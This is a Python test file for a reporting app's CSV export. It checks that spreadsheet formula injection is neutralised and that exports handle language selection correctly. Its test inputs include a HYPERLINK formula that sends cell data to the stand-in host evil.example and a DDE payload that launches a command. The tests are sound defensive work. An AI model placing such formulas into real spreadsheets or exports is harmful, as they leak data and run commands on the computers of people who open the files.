"""CSV exports cannot smuggle spreadsheet formulas."""

import csv
import io

import pytest

from assessments.csvcells import safe_cell
from assessments.models import Assessment, Entry
from criteria.models import Criterion
from reports.csvexport import write_rows
from reports.exports import MATRIX
from tests import factories

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_safe_cell_prefixes_formula_starters_with_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Plain text", "Plain text"),
        ("a = b", "a = b"),
        ("", ""),
        (None, ""),
        (3, 3),
        (-1, -1),
        (2.5, 2.5),
        (True, "true"),
        (False, "false"),
    ],
)
def test_safe_cell_leaves_plain_values_alone(value, expected):
    assert safe_cell(value) == expected


def test_write_rows_neutralises_header_and_cells():
    out = io.StringIO()

    write_rows(out, ["=A1", "b"], [["-2+3", 4], ["ok", None]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=A1", "b"],
        ["'-2+3", "4"],
        ["ok", ""],
    ]


@pytest.mark.django_db
def test_matrix_csv_neutralises_formulas_typed_into_strengths(report, client):
    office = factories.make_office(name="@Office")
    assessment = factories.make_assessment(office, status=Assessment.Status.PUBLISHED)
    entries = list(assessment.entries.order_by("criterion__number"))
    for entry, text in zip(entries, DANGEROUS, strict=False):
        entry.strengths = text
        entry.opportunities = "=" + text
    Entry.objects.bulk_update(entries, ["strengths", "opportunities"])

    response = client.get(f"/reports/matrix.csv?cities={office.city.slug}")

    rows = list(csv.reader(io.StringIO(response.content.decode())))[1:]
    assert [r[5] for r in rows[: len(DANGEROUS)]] == ["'" + t for t in DANGEROUS]
    assert [r[6] for r in rows[: len(DANGEROUS)]] == ["'=" + t for t in DANGEROUS]
    assert {r[1] for r in rows} == {"'@Office"}
    assert [r[4] for r in rows] == [""] * 9
    # Nothing in the file starts a cell with a formula character any more.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.django_db
def test_dashboard_csv_neutralises_office_names(report, client):
    office = factories.make_office(name="=cmd|'/c calc'!A1")
    factories.make_assessment(office, status=Assessment.Status.PUBLISHED, levels=[1] * 9)

    response = client.get("/reports/dashboard/heatmap.csv?include_demo=on")

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][0].startswith("'=cmd")


def test_matrix_csv_in_spanish_translates_cells_never_headers(report, client):
    response = client.get("/reports/matrix.csv?cities=cali&lang=es")
    rows = parse_csv(response)
    assert rows[0] == MATRIX.header
    assert rows[1][3] == Criterion.objects.get(number=1).translations["es"]["short_title"]
    assert response["Content-Disposition"] == 'attachment; filename="ovp-matrix-cali-2024-es.csv"'


def test_matrix_csv_without_lang_is_english_whatever_the_browser_says(report, client):
    response = client.get("/reports/matrix.csv?cities=cali", HTTP_ACCEPT_LANGUAGE="es")
    rows = parse_csv(response)
    assert rows[1][3] == Criterion.objects.get(number=1).short_title
    assert rows[0][:8] == [
        "city",
        "office",
        "criterion_number",
        "criterion",
        "level",
        "strengths",
        "opportunities",
        "source",
    ]
    assert response["Content-Disposition"] == 'attachment; filename="ovp-matrix-cali-2024.csv"'


def test_matrix_csv_ignores_an_unknown_lang(report, client):
    rows = parse_csv(client.get("/reports/matrix.csv?cities=cali&lang=xx"))
    assert rows[0][0] == "city"


def parse_csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
